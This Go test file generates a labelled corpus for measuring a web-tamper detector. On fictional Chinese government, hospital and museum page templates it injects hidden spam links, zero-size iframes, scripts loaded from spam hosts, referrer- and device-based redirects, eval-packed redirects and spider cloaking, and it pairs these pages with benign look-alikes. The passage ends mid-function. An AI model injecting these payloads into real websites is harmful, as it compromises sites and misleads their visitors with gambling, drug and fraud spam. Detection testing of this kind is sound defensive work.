package tamper

// The fourth sealed split: a sample of REAL attacks. Every technique and
// variant below is one that an English-language public write-up (security
// blog, search-engine help text, malware sample, issue thread) shows being
// used on hacked sites; the pages are Chinese public-sector sites and the
// spam is Chinese spam, as in the incidents Fenghuo handles. Like the other
// sealed splits it was written WITHOUT calling Check, Analyze or Learn on
// any of its pages and without reading the detector, docs/tamper.md or the
// other splits' technique generators: TestSealed4SplitWellFormed checks
// only that the split is what it claims (labels, counts, pages that parse,
// spam present in every tampered page and no spam host in any benign one),
// TestSealed4SplitHiddenInChromium (FENGHUO_TAMPER_BROWSER=1) checks in a
// real Chromium that the payloads do not show, and
// TestGeneratedCorpusSealed4, the only test that runs the detector on it,
// is skipped unless FENGHUO_TAMPER_SEALED4=1: its first run is the
// measurement. It has no floors.
//
// Techniques (sealed4Techniques), the number of cases each, and sources.
// The weights follow how often the write-ups show a technique: CSS hiding
// of a block of links (off screen, display:none, tiny text, same colour)
// dominates every source; frames, scripts and redirects come next.
//
//   - offscreen-position (30) — links in a block moved off the page with
//     position:absolute and a large negative left/top. Google's hidden
//     text and links guideline, "Using CSS to position text off-screen"
//     (quoted in www.seobythesea.com/2013/03/google-invisible-text-hidden-links/);
//     "positioning the text outside the visible page"
//     (www.dummies.com/web-design-development/search-engine-optimization/how-to-deal-with-hidden-text-or-links-on-a-web-page/);
//     "positioning them off-screen" (noc.org/help/docs/seo-search-engine-optimization-spam).
//   - display-none-block (30) — a <div style="display:none"> of links,
//     inline, in a class rule, or built by a script on DOMContentLoaded.
//     Hidden link spam at the bottom of every post, visible only with
//     stylesheets off (blog.tamar.com/2008/07/kevin-smith-hit-by-hidden-link-spammers/);
//     spam links "mit CSS im Blog unsichtbar gemacht" in free themes
//     (spam.tamagothi.de/tag/theme); hidden "canadian pills" links before
//     </html> (github.com/h5bp/html5-boilerplate/issues/1508); a
//     `<!--seo--><div style="display:none">` block in a scanner's test
//     sample of link-network spam (code corpus, "SEO Spam / Link Networks");
//     a script that appends a display:none container of links
//     (tysonsawchuk/GoreandGiggles scripts/backlink-loader.js).
//   - css-hidden-block (12) — visibility:hidden, or height:0 with
//     overflow:hidden. Google's guideline "Using CSS to hide text"
//     (novo6123.blogspot.com/2008/10/message-from-google-about-hidden-text.html).
//   - tiny-font (16) — font-size:0, inline or in a class rule. Google's
//     guideline "Setting the font size to 0" (same page). (Its other
//     example, links "as little as one pixel high", was tried and dropped:
//     in Chromium a one-pixel line of such links still shows.)
//   - same-colour (16) — white text on a white background, link colour
//     equal to the block's background. Google's guideline "white text on a
//     white background", "text color and background color are identical"
//     (novo6123 above); dummies and noc.org (above).
//   - marquee-1px (8) — a marquee one pixel wide full of keywords
//     (www.phpied.com/marquee-search-engine-spam/:
//     `<marquee width="1">Blah, blah, some keywords</marquee>`).
//   - docwrite-hidden (14) — document.write opens a display:none div around
//     a block of links and closes it after (`<script>document.write('<div
//     style="display:none;">');</script><div><a …>…</div><script>
//     document.write('</div>');</script>`, verbatim in the footer of a
//     public copy of a Chinese shop's page, find_string id 2505762522 — there
//     the shop hides links of its own, so this is the mechanism in the wild,
//     not an attack write-up), or writes the whole hidden block through
//     unescape() of an escape()d string (the `document.write(unescape("%3C…"))`
//     plus style.display="none" statistics snippet, find_string id
//     42163865635). The English write-ups name the goal (hidden text
//     "injected by a third party through a software vulnerability",
//     pro-webs.net/blog/2009/11/16/google-quality-removal-hidden-text) but
//     none found shows this exact markup: this technique's sourcing is the
//     weakest of the split.
//   - js-injected-style (14) — a div of links followed by a script that
//     creates a <style> moving it to position:fixed with a huge negative
//     top ('st'+'yl'+'e', getElementsByTagName('hea'+'d')): the sample in
//     mdpabel/mdpabel.com-v4 src/content/wordpress-threats/seo-spam-anchor-css-injection.md.
//   - covered-by-image (8) — links under an opaque image laid on top.
//     Google's guideline "Including text behind an image"; dummies "layering
//     an image or other element on top of the content" (above).
//   - hyphen-link (8) — a link on one small character in a sentence.
//     Google's guideline "The link is hidden in a small character - for
//     example, a hyphen in the middle of a paragraph" (novo6123 above).
//   - transparent-overlay-link (6) — a fixed, full-window, opacity 0.01
//     block holding one link to the spam host (the injected
//     `position: fixed; inset: 0px; z-index: 2147483647; … opacity: 0.01`
//     overlay in github.com/uBlockOrigin/uAssets/issues/8074).
//   - hidden-iframe (8) — a frame of the spam site, width=0 height=0
//     frameborder=0, or display:none (labs.sucuri.net/db/malware/malware.short_url:
//     `<iframe src=… width="0" height="0" frameborder="0">`; Sophos on
//     Mal/Iframe, nakedsecurity.sophos.com/2007/08/06/winds-of-change/;
//     an atob/eval-injected display:none iframe, github.com/futzumi/Kahoot-Hack/issues/14).
//   - external-script (8) — a script from the spam host added to every
//     page, static or created by a loader (github.com/disobey2020/disobey2020.github.io/issues/2;
//     "a script injected from a Chinese malware site",
//     github.com/code9media/overthecs.github.io/issues/16; Sign1,
//     www.hackread.com/wordpress-websites-hacked-new-sign1-malware/).
//   - referrer-redirect (10) — only visitors who come from a search engine
//     are sent to the spam site (`var s=document.referrer;
//     if(s.indexOf("google")>0 || s.indexOf("bing")>0 …){self.location=…}`,
//     mozdev.nodebb.com/community/q/topic/35851/document-referrer-is-that-harmful-to-my-website;
//     Google: sneaky redirects "depend on referrer, user-agent, or device",
//     marketingdigest.com/google-updates-webmaster-guidelinesfor-sneaky-redirects-and-hacked-content/amp);
//     the search engines tested are the ones Chinese visitors use.
//   - mobile-redirect (6) — only phones are redirected ("redirect all
//     mobile users to completely different spam domains", marketingdigest above).
//   - packed-redirect (4) — the redirect packed with
//     eval(function(p,a,c,k,e,r)…) (Google's "you might be hacked" notices:
//     "any files containing eval(function(p,a,c,k,e,r)",
//     threatpost.com/google-warns-20000-webmasters-about-weird-redirects-041812).
//   - once-per-visitor-redirect (4) — a cookie makes the redirect fire on
//     the first visit only (github.com/FGF-College-Work/Forum/issues/95,
//     jQuery injection; first visit only, github.com/g13nn/Email-Framework/issues/28).
//   - spider-cloaking (12) — the spider gets the page with a block of spam
//     links or spam text, visitors the clean page (pharma hack "injects
//     text and links only when Google is scanning the site",
//     www.forthgo.com/blog/2011/03/02/bitten-by-wordpress-pharma-hack/;
//     benedictjacka.co.uk/2015/11/06/pharma-hack-after-action-report/;
//     "a Cialis promoting page is delivered to googlebot whilst users get
//     the standard page", www.webmasterworld.com/google/4243741.htm;
//     HasnaSalsabilan/balaakkk index.php, a user-agent switch).
//
// Payloads rotate (for the CSS and script hiding techniques) six ways:
// four of spam links, one of neutral anchors (hidden_link only), one of
// spam text without links (illicit_content only).
//
// Sites: six templates of kinds no other split uses — a county traffic
// police brigade's service page, a city housing provident fund centre, a
// county hospital's outpatient schedule, a county meteorological bureau's
// forecast, a city museum's exhibitions, a county statistics bureau's
// data releases — each with navigation, columns, friendly links to other
// public-sector sites and a footer with the ICP record number, and content
// that changes day to day (queues, rates, rosters, forecasts, slots,
// figures).
//
// Benign changes (sealed4Benign, 14 × 6 sites = 84 pages): a day's news
// only, a hover drop-down menu, tabs, a carousel, a list collapsed behind
// "更多", a privacy notice drawer translated off screen, a print-only
// block, news of a fraud case that quotes the split's spam wording in
// visible text, a drop-down box of public-sector friendly links, a lazy
// tab pane, an off-screen skip link, a back-to-top button hidden until
// scrolling, a statistics snippet whose icon is hidden (the same
// document.write(unescape()) shape as above, on the site's own analytics
// account) and a collapsed accessibility toolbar.
//
// Composition: 6 sites; 214 tampered pages (the technique counts above,
// spread round-robin over the sites) carrying 150 hidden_link, 134
// illicit_content, 24 malicious_redirect, 12 cloaking, 8 hidden_iframe and
// 8 new_external_script labels (sealed4Labels), and 84 benign pages
// (sealed4BenignPages); the test fails when the generator changes them.
//
// The Chromium check passed when the split was written (Chromium 156,
// 2026-12-07: 0 of 162 checked pages show their payload, the
// control page does; hyphen-link, external-script, the four redirects and
// spider-cloaking are left out, see the test). Its first run had caught
// two mistakes of the generator, since fixed: a transparent GIF where an
// opaque image was meant, and one-pixel-high links that still show.

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"math/rand"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

var genSealed4 = genSplit{
	name: "sealed4",
	sites: []genSite{
		{"临河县公安局交通警察大队", "jj.linhexian.gov.cn", "大队", sealed4TmplTraffic},
		{"渠州市住房公积金管理中心", "gjj.quzhou-shi.gov.cn", "中心", sealed4TmplFund},
		{"石门县人民医院", "www.smxrmyy.org.cn", "医院", sealed4TmplOutpatient},
		{"柏岭县气象局", "qx.bailingxian.gov.cn", "气象局", sealed4TmplWeather},
		{"沅江市博物馆", "www.yjsbwg.org.cn", "博物馆", sealed4TmplMuseum},
		{"清溪县统计局", "tjj.qingxixian.gov.cn", "统计局", sealed4TmplStats},
	},
	hosts: []string{"www.xpj-8866.com", "m.bjl777.vip", "ssq-yuce.cc", "www.zbfl99.live", "fp.daikai-365.com",
		"www.qbwg-sf.net", "hb.txdk88.top", "47.96.120.33", "WWW.YHDZ1688.COM", "app.qiangzhi-gou.shop"},
	spam: []string{"新葡京线上娱乐城", "百家乐稳赢技巧", "双色球内部预测", "大乐透杀号专家", "成人直播免费看", "附近约炮神器",
		"正规代开增值税发票", "办理假驾驶证", "吃鸡外挂免费下载", "奇迹私服一条龙", "花呗提现秒到账", "信用卡代还套现",
		"冰毒货到付款", "气枪专卖网", "无抵押黑户贷款"},
	neutral:    []string{"装修公司推荐", "二手车估价", "搬家服务电话", "考研资料下载"},
	linkCounts: []int{4, 6, 9, 11, 14, 21},
	idx:        8,
}

// sealed4Technique is a technique from a write-up (file comment): how many
// cases it gets, how its payload rotates, its labels when they do not
// follow from the payload, and whether the browser check leaves it out
// (the payload is not hidden markup: a redirect, a remote script, a link
// on a visible hyphen).
type sealed4Technique struct {
	name   string
	cases  int
	mix    string   // "css": rotate spam links, neutral links, spam text; "links": spam links only
	labels []string // fixed labels; nil: from the payload (plus cloaking when there is a spider copy)
	skipUI bool
	gen    func(g *genCase, s genSite) (in inject, spider string)
}

// sealed4Where puts a block where the write-ups find it: mostly in the
// footer, else at the end of the body or at its top.
func sealed4Where(g *genCase, html string) inject {
	switch n := g.r.Intn(10); {
	case n < 5:
		return inject{foot: html}
	case n < 8:
		return inject{end: html}
	}
	return inject{top: html}
}

// sealed4JS makes the payload safe inside a single-quoted JS string.
func sealed4JS(s string) string {
	s = strings.ReplaceAll(s, `\`, `\\`)
	s = strings.ReplaceAll(s, "'", `\'`)
	return strings.ReplaceAll(s, "\n", `\n`)
}

// sealed4Escape is JavaScript's escape(): letters, digits and @*_+-./ stay,
// other code units below 256 become %XX, the rest %uXXXX.
func sealed4Escape(s string) string {
	var b strings.Builder
	for _, u := range utf16Units(s) {
		switch {
		case u < 128 && (u >= 'a' && u <= 'z' || u >= 'A' && u <= 'Z' || u >= '0' && u <= '9' || strings.ContainsRune("@*_+-./", rune(u))):
			b.WriteByte(byte(u))
		case u < 256:
			fmt.Fprintf(&b, "%%%02X", u)
		default:
			fmt.Fprintf(&b, "%%u%04X", u)
		}
	}
	return b.String()
}

// sealed4OpaquePNG is a 1×1 opaque white PNG (base64), the image laid
// over the links.
var sealed4OpaquePNG = func() string {
	img := image.NewRGBA(image.Rect(0, 0, 1, 1))
	img.Set(0, 0, color.White)
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		panic(err)
	}
	return base64.StdEncoding.EncodeToString(b.Bytes())
}()

// sealed4Pick returns one of vs.
func sealed4Pick(g *genCase, vs ...string) string { return vs[g.r.Intn(len(vs))] }

var sealed4Techniques = []sealed4Technique{
	{"offscreen-position", 30, "css", nil, false, func(g *genCase, s genSite) (inject, string) {
		style := sealed4Pick(g, "position:absolute;left:-9999px;", "position:absolute;top:-1000px;left:0;", "position:absolute; left:-5000px; top:0;",
			"position:absolute;left:-3000px;width:900px;", "position:absolute;top:-9999px;left:-9999px;")
		tag := sealed4Pick(g, "div", "div", "span", "p")
		if tag == "p" && strings.HasPrefix(g.payload, "<p>") {
			tag = "div"
		}
		return sealed4Where(g, fmt.Sprintf(`<%s style="%s">%s</%s>`, tag, style, g.payload, tag)), ""
	}},
	{"display-none-block", 30, "css", nil, false, func(g *genCase, s genSite) (inject, string) {
		switch g.r.Intn(4) {
		case 0:
			return sealed4Where(g, `<div style="display:none">`+g.payload+`</div>`), ""
		case 1:
			return sealed4Where(g, "<!--seo-->\n<div style=\"display: none;\">\n"+g.payload+"\n</div>\n<!--/seo-->"), ""
		case 2:
			in := sealed4Where(g, `<div class="`+g.id+`">`+g.payload+`</div>`)
			in.head = `<style type="text/css">.` + g.id + `{display:none}</style>`
			return in, ""
		}
		// Built by a script once the page has loaded.
		var items []string
		for i, h := range g.hostList() {
			items = append(items, fmt.Sprintf(`{text:"%s",url:"http://%s/"}`, g.textFor(i), h))
		}
		js := `<script>document.addEventListener("DOMContentLoaded",function(){var links=[` + strings.Join(items, ",") +
			`];var c=document.createElement("div");c.style.display="none";links.forEach(function(l){var a=document.createElement("a");a.href=l.url;a.textContent=l.text;c.appendChild(a)});document.body.appendChild(c)});</script>`
		return inject{end: js}, ""
	}},
	{"css-hidden-block", 12, "css", nil, false, func(g *genCase, s genSite) (inject, string) {
		style := sealed4Pick(g, "visibility:hidden;", "visibility: hidden; position:absolute;", "height:0;overflow:hidden;", "height:0px;overflow:hidden;line-height:0;")
		return sealed4Where(g, `<div style="`+style+`">`+g.payload+`</div>`), ""
	}},
	{"tiny-font", 16, "css", nil, false, func(g *genCase, s genSite) (inject, string) {
		switch g.r.Intn(3) {
		case 0:
			return sealed4Where(g, `<div style="font-size:0">`+g.payload+`</div>`), ""
		case 1:
			return sealed4Where(g, `<div style="font-size:0px;line-height:0;margin:0">`+g.payload+`</div>`), ""
		}
		in := sealed4Where(g, `<div class="`+g.id+`">`+g.payload+`</div>`)
		in.head = `<style>.` + g.id + `,.` + g.id + ` *{font-size:0 !important;line-height:0}</style>`
		return in, ""
	}},
	{"same-colour", 16, "css", nil, false, func(g *genCase, s genSite) (inject, string) {
		c := sealed4Pick(g, "#ffffff", "#fff", "#f7f7f7", "#fefefe", "white")
		switch g.r.Intn(2) {
		case 0:
			return sealed4Where(g, `<div style="background:`+c+`;color:`+c+`">`+strings.ReplaceAll(g.payload, `<a `, `<a style="color:`+c+`;text-decoration:none" `)+`</div>`), ""
		}
		in := sealed4Where(g, `<div class="`+g.id+`">`+g.payload+`</div>`)
		in.head = `<style>.` + g.id + `{background-color:` + c + `;color:` + c + `}.` + g.id + ` a,.` + g.id + ` a:visited{color:` + c + `;text-decoration:none}</style>`
		return in, ""
	}},
	{"marquee-1px", 8, "css", nil, false, func(g *genCase, s genSite) (inject, string) {
		attrs := sealed4Pick(g, `width="1" height="1"`, `height="1" width="1" scrollamount="3000" scrolldelay="20000"`, `width=1 height=1 behavior="scroll"`)
		return sealed4Where(g, `<marquee `+attrs+`>`+g.payload+`</marquee>`), ""
	}},
	{"docwrite-hidden", 14, "css", nil, false, func(g *genCase, s genSite) (inject, string) {
		switch g.r.Intn(3) {
		case 0:
			return inject{end: `<script>document.write('<div style="display:none;">');</script>` + "\n<div>\n" + g.payload + "\n</div>\n<script>document.write('</div>');</script>"}, ""
		case 1:
			block := `<div style="display:none">` + g.payload + `</div>`
			return sealed4Where(g, `<script type="text/javascript">document.write(unescape("`+sealed4Escape(block)+`"));</script>`), ""
		}
		return sealed4Where(g, `<script type="text/javascript">document.write('<div style="position:absolute;left:-2000px;top:-2000px">`+sealed4JS(g.payload)+`</div>');</script>`), ""
	}},
	{"js-injected-style", 14, "css", nil, false, func(g *genCase, s genSite) (inject, string) {
		top := 100000000 + g.r.Intn(90000000)
		z := 400000000 + g.r.Intn(90000000)
		fn := "f" + g.id
		return sealed4Where(g, fmt.Sprintf(`<div id="%s"><p>%s</p></div><script type="text/javascript">function %s(){var h=document.getElementsByTagName('hea'+'d')[0];var c='#%s{margin:0px 20px;position:fixed;overflow:hidden;top:-%dpx;display:block;z-index:%d;}';var e=document.createElement('st'+'yl'+'e');e.type='text/css';if(e.styleSheet){e.styleSheet.cssText=c}else{e.appendChild(document.createTextNode(c))}h.appendChild(e)}%s();</script>`,
			g.id, g.payload, fn, g.id, top, z, fn)), ""
	}},
	{"covered-by-image", 8, "css", nil, false, func(g *genCase, s genSite) (inject, string) {
		img := `<img src="data:image/png;base64,` + sealed4OpaquePNG + `" alt="" style="position:absolute;left:0;top:0;width:100%;height:100%;z-index:9">`
		return sealed4Where(g, `<div style="position:relative;overflow:hidden">`+img+`<div style="position:relative;z-index:1">`+g.payload+`</div></div>`), ""
	}},
	{"hyphen-link", 8, "links", []string{KindHiddenLink}, true, func(g *genCase, s genSite) (inject, string) {
		h := g.firstHost()
		p := sealed4Pick(g, `<p class="note">本站部分信息来源于网络<a href="http://`+h+`/">-</a>如有侵权请联系删除。</p>`,
			`<p>办公时间：周一至周五 上午8:30<a href="https://`+h+`/" target="_blank">-</a>12:00，下午14:30-17:30</p>`,
			`<p>咨询电话：0736<a href="http://`+h+`/index.html">-</a>7212345</p>`)
		return inject{foot: p}, ""
	}},
	{"transparent-overlay-link", 6, "links", []string{KindHiddenLink}, false, func(g *genCase, s genSite) (inject, string) {
		h := g.firstHost()
		return inject{end: `<div id="` + g.id + `" style="position: fixed; inset: 0px; z-index: 2147483647; background: black none repeat scroll 0% 0%; opacity: 0.01;"><a href="http://` + h + `/go?refer=` + s.host + `" target="_blank" style="display: block; height: inherit;"></a></div>`}, ""
	}},
	{"hidden-iframe", 8, "links", []string{KindHiddenIframe}, false, func(g *genCase, s genSite) (inject, string) {
		h := g.firstHost()
		f := sealed4Pick(g, `<iframe src="http://`+h+`/" width="0" height="0" frameborder="0"></iframe>`,
			`<iframe src="https://`+h+`/index.html" width="0" height="0" frameborder="0" scrolling="no"></iframe>`,
			`<iframe src="http://`+h+`/tj.html" style="display:none"></iframe>`)
		return sealed4Where(g, f), ""
	}},
	{"external-script", 8, "links", []string{KindNewExternalScript}, true, func(g *genCase, s genSite) (inject, string) {
		h := g.firstHost()
		switch g.r.Intn(3) {
		case 0:
			return inject{head: `<script type="text/javascript" src="https://` + h + `/js/tongji.js"></script>`}, ""
		case 1:
			return inject{end: `<script src="//` + h + `/common.js"></script>`}, ""
		}
		return inject{end: `<script>(function(){var s=document.createElement("script");s.src="https://` + h + `/jquery.min.js?v="+Math.floor(Date.now()/36e5);document.getElementsByTagName("head")[0].appendChild(s)})();</script>`}, ""
	}},
	{"referrer-redirect", 10, "links", []string{KindMaliciousRedirect}, true, func(g *genCase, s genSite) (inject, string) {
		h := g.firstHost()
		js := sealed4Pick(g,
			`var s=document.referrer;if(s.indexOf("baidu")>0||s.indexOf("sogou")>0||s.indexOf("so.com")>0||s.indexOf("bing")>0){self.location="https://`+h+`/";}`,
			`var r=document.referrer.toLowerCase();var se=["baidu.com","sogou.com","so.com","sm.cn","bing.com"];for(var i=0;i<se.length;i++){if(r.indexOf(se[i])!=-1){window.location.href="http://`+h+`/?k=`+g.id+`";break;}}`,
			`if(/baidu|sogou|360|bing|google/i.test(document.referrer)){setTimeout(function(){top.location.replace("http://`+h+`/index.php")},300)}`)
		return sealed4Where(g, `<script type="text/javascript">`+js+`</script>`), ""
	}},
	{"mobile-redirect", 6, "links", []string{KindMaliciousRedirect}, true, func(g *genCase, s genSite) (inject, string) {
		h := g.firstHost()
		js := sealed4Pick(g,
			`if(/Android|iPhone|iPad|iPod|Mobile/i.test(navigator.userAgent)){window.location.href="http://`+h+`/m/";}`,
			`var ua=navigator.userAgent.toLowerCase();if(ua.indexOf("android")>-1||ua.indexOf("iphone")>-1){location.replace("https://`+h+`/wap/");}`)
		return inject{head: `<script>` + js + `</script>`}, ""
	}},
	{"packed-redirect", 4, "links", []string{KindMaliciousRedirect}, true, func(g *genCase, s genSite) (inject, string) {
		h := g.firstHost()
		packed := `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('1.2.3="4://0/"',5,5,'` + h + `|window|location|href|https'.split('|'),0,{}))`
		return sealed4Where(g, `<script type="text/javascript">`+packed+`</script>`), ""
	}},
	{"once-per-visitor-redirect", 4, "links", []string{KindMaliciousRedirect}, true, func(g *genCase, s genSite) (inject, string) {
		h := g.firstHost()
		js := `if(document.cookie.indexOf("_vst` + g.id + `=")<0){document.cookie="_vst` + g.id + `=1;max-age=86400;path=/";setTimeout(function(){window.location.replace("https://` + h + `/?from="+encodeURIComponent(location.host))},800);}`
		return inject{end: `<script type="text/javascript">` + js + `</script>`}, ""
	}},
	{"spider-cloaking", 12, "css", nil, true, func(g *genCase, s genSite) (inject, string) {
		// The browser copy is the clean page; the spider copy carries the
		// block in plain view.
		block := sealed4Pick(g, `<div class="hot">`+g.payload+`</div>`, `<p>`+g.payload+`</p>`, `<div id="links">`+g.payload+`</div>`)
		return inject{}, block
	}},
}

// sealed4Change is a benign change; it may name its own site.
type sealed4Change struct {
	name string
	gen  func(g *genCase, s genSite) inject
}

// sealed4FraudNews quotes the split's own spam wording in a visible news
// item (a benign page that names spam).
const sealed4FraudNews = `<div class="notice"><h3>警方提示：警惕网络赌博和虚假贷款诈骗</h3><p>近期，我县破获一起电信网络诈骗案，犯罪分子以“新葡京线上娱乐城”“百家乐稳赢技巧”“无抵押黑户贷款”等名义诱骗群众转账。请广大群众提高警惕，切勿轻信，如遇可疑情况请拨打110或96110。</p></div>`

var sealed4Benign = []sealed4Change{
	{"s4-daily-news-only", func(g *genCase, s genSite) inject { return inject{} }},
	{"s4-hover-dropdown-menu", func(g *genCase, s genSite) inject {
		return inject{head: `<style>.s4menu li ul{display:none;position:absolute;background:#fff;border:1px solid #ccc}.s4menu li:hover ul{display:block}</style>`,
			top: `<ul class="s4menu"><li><a href="/bszn/">办事指南</a><ul><li><a href="/bszn/grbl.html">个人办理</a></li><li><a href="/bszn/dwbl.html">单位办理</a></li><li><a href="/bszn/xzxz.html">表格下载</a></li></ul></li></ul>`}
	}},
	{"s4-tab-panes", func(g *genCase, s genSite) inject {
		return inject{head: `<style>.s4tab .pane{display:none}.s4tab .pane.on{display:block}</style>`,
			foot: `<div class="s4tab"><ul><li onclick="s4tab(0)">通知公告</li><li onclick="s4tab(1)">政策解读</li></ul><div class="pane on">` + s.short + `关于调整办公时间的通知</div><div class="pane">` + s.short + `年度工作要点解读</div></div><script>function s4tab(i){var p=document.querySelectorAll(".s4tab .pane");for(var j=0;j<p.length;j++){p[j].className=j==i?"pane on":"pane"}}</script>`}
	}},
	{"s4-carousel", func(g *genCase, s genSite) inject {
		return inject{top: `<div class="slides"><div class="slide" style="display:block"><img src="/images/banner1.jpg" alt="` + s.name + `服务宣传"></div><div class="slide" style="display:none"><img src="/images/banner2.jpg" alt="学习贯彻党的二十届三中全会精神"></div><div class="slide" style="display:none"><img src="/images/banner3.jpg" alt="优化营商环境 提升服务效能"></div></div><script>(function(){var s=document.querySelectorAll(".slide"),i=0;setInterval(function(){s[i].style.display="none";i=(i+1)%s.length;s[i].style.display="block"},5000)})();</script>`}
	}},
	{"s4-collapsed-more-list", func(g *genCase, s genSite) inject {
		var b strings.Builder
		b.WriteString(`<ul class="more-list">`)
		for i := 1; i <= 8; i++ {
			hidden := ""
			if i > 4 {
				hidden = " hidden"
			}
			fmt.Fprintf(&b, `<li%s><a href="/tzgg/%d.html">%s第%d期工作简报</a></li>`, hidden, 200+i, s.short, 30+i)
		}
		b.WriteString(`</ul><a href="javascript:;" onclick="document.querySelectorAll('.more-list li[hidden]').forEach(function(l){l.hidden=false})">更多</a>`)
		return inject{foot: b.String()}
	}},
	{"s4-privacy-drawer", func(g *genCase, s genSite) inject {
		return inject{end: `<div id="privacy" style="position:fixed;left:0;right:0;bottom:0;background:#333;color:#fff;padding:12px;transform:translateY(100%);transition:transform .3s">本网站使用Cookie以改善浏览体验，详见<a href="/yszc.html" style="color:#9cf">隐私政策</a>。<button onclick="this.parentNode.style.transform='translateY(100%)'">我知道了</button></div><script>if(!localStorage.getItem("privacy_ok")){setTimeout(function(){document.getElementById("privacy").style.transform="none";localStorage.setItem("privacy_ok","1")},1500)}</script>`}
	}},
	{"s4-print-only-block", func(g *genCase, s genSite) inject {
		return inject{head: `<style>.print-only{display:none}@media print{.print-only{display:block}.nav,.links{display:none}}</style>`,
			foot: `<div class="print-only">打印自` + s.name + `网站 http://` + s.host + `/ 打印时间：以实际打印为准</div>`}
	}},
	{"s4-fraud-warning-news", func(g *genCase, s genSite) inject { return inject{top: sealed4FraudNews} }},
	{"s4-friendly-link-select", func(g *genCase, s genSite) inject {
		return inject{foot: `<select onchange="if(this.value)window.open(this.value)"><option value="">—— 市县政府网站 ——</option><option value="http://www.gov.cn/">中国政府网</option><option value="http://www.hunan.gov.cn/">湖南省人民政府</option><option value="http://www.changde.gov.cn/">常德市人民政府</option><option value="http://www.12345.gov.cn/">12345政务服务便民热线</option></select><div class="yqlj-more" style="display:none"><a href="http://www.mps.gov.cn/">公安部</a><a href="http://www.cma.gov.cn/">中国气象局</a><a href="http://www.stats.gov.cn/">国家统计局</a></div>`}
	}},
	{"s4-lazy-tab-pane", func(g *genCase, s genSite) inject {
		return inject{foot: `<div class="lazy" hidden data-src="/ajax/xxgk.html"><p>信息公开年报（加载中）</p></div><template id="tpl-` + g.id + `"><li><a href="/xxgk/nb.html">` + s.short + `政府信息公开工作年度报告</a></li></template>`}
	}},
	{"s4-skip-link", func(g *genCase, s genSite) inject {
		return inject{head: `<style>.skip{position:absolute;left:-9999px;top:0}.skip:focus{left:10px}</style>`,
			top: `<a class="skip" href="#main">跳到主要内容</a>`}
	}},
	{"s4-back-to-top", func(g *genCase, s genSite) inject {
		return inject{end: `<a id="totop" href="#" style="display:none;position:fixed;right:20px;bottom:40px">返回顶部</a><script>window.addEventListener("scroll",function(){document.getElementById("totop").style.display=window.scrollY>400?"block":"none"})</script>`}
	}},
	{"s4-own-analytics-icon", func(g *genCase, s genSite) inject {
		return inject{end: `<script type="text/javascript">var cnzz_protocol = (("https:" == document.location.protocol) ? " https://" : " http://");document.write(unescape("%3Cspan id='cnzz_stat_icon_1281` + fmt.Sprint(100000+g.r.Intn(899999)) + `'%3E%3C/span%3E"));</script><div id="tj" style="display:none">` + s.short + `访问统计</div>`}
	}},
	{"s4-accessibility-toolbar", func(g *genCase, s genSite) inject {
		return inject{top: `<div class="wza"><a href="javascript:;" onclick="var t=document.getElementById('wzatool');t.style.display=t.style.display=='none'?'block':'none'">无障碍浏览</a><div id="wzatool" style="display:none"><button>放大</button><button>缩小</button><button>高对比度</button><button>读屏</button><button>关闭</button></div></div>`}
	}},
}

// sealed4TamperedCases builds every technique's cases, spread over the
// sites.
func sealed4TamperedCases() []genLabelled {
	var out []genLabelled
	for ti, t := range sealed4Techniques {
		for i := 0; i < t.cases; i++ {
			s := genSealed4.sites[(ti+i)%len(genSealed4.sites)]
			r := rand.New(rand.NewSource(int64(genSealed4.idx*1000000 + ti*1000 + i + 17)))
			kind := payloadSpamLinks
			if t.mix == "css" {
				kind = []int{payloadSpamLinks, payloadSpamLinks, payloadNeutralLinks, payloadSpamLinks, payloadSpamText, payloadSpamLinks}[i%6]
			}
			payload, p := buildPayload(r, genSealed4, kind, false)
			genCurrent = p
			g := &genCase{r: r, split: genSealed4.idx, payload: payload, plain: payload, id: fmt.Sprintf("s%x", r.Int63()%0xfffff)}
			in, spider := t.gen(g, s)
			day := 10 + (ti*7+i)%27
			kinds := t.labels
			if kinds == nil {
				switch kind {
				case payloadSpamLinks:
					kinds = []string{KindHiddenLink, KindIllicitContent}
				case payloadNeutralLinks:
					kinds = []string{KindHiddenLink}
				default:
					kinds = []string{KindIllicitContent}
				}
			}
			kinds = append([]string{}, kinds...)
			c := genLabelled{site: s.host, name: t.name, html: []byte(s.tmpl(s, day, in)), baselineFor: s}
			if spider != "" {
				c.spider = []byte(s.tmpl(s, day, inject{foot: spider}))
				kinds = append(kinds, KindCloaking)
			}
			c.kinds = kinds
			out = append(out, c)
		}
	}
	return out
}

// sealed4BenignCases builds every benign change on every site.
func sealed4BenignCases() []genLabelled {
	var out []genLabelled
	for si, s := range genSealed4.sites {
		for bi, bc := range sealed4Benign {
			r := rand.New(rand.NewSource(int64(genSealed4.idx*100000 + si*100 + bi + 77)))
			g := &genCase{r: r, split: genSealed4.idx, id: fmt.Sprintf("b%x", r.Int63()%0xfffff)}
			out = append(out, genLabelled{site: s.host, name: bc.name, html: []byte(s.tmpl(s, 40+bi, bc.gen(g, s))), baselineFor: s})
		}
	}
	return out
}

// sealed4Cases is the whole split.
func sealed4Cases() []genLabelled {
	return append(sealed4TamperedCases(), sealed4BenignCases()...)
}

// sealed4Labels is the number of labels per kind the split holds and
// sealed4BenignPages the number of benign pages; TestSealed4SplitWellFormed
// fails when the generator changes them.
var sealed4Labels = map[string]int{
	KindHiddenLink:        150,
	KindIllicitContent:    134,
	KindCloaking:          12,
	KindMaliciousRedirect: 24,
	KindHiddenIframe:      8,
	KindNewExternalScript: 8,
}

const sealed4BenignPages = 6 * 14

// TestGeneratedCorpusSealed4 measures the detector on the sealed4 split,
// scored like the sealed2 split (scoreSealed). It has no floors: nobody
// has run it. It runs only with FENGHUO_TAMPER_SEALED4=1.
func TestGeneratedCorpusSealed4(t *testing.T) {
	labelled, found, falseAlarms := scoreSealed(t, genSealed4.name, sealed4Cases(), len(genSealed4.sites))
	for k, n := range sealed4Labels {
		if labelled[k] != n {
			t.Errorf("sealed4: %d %s labels scored, want %d", labelled[k], k, n)
		}
	}
	for k, floor := range sealed4Floors {
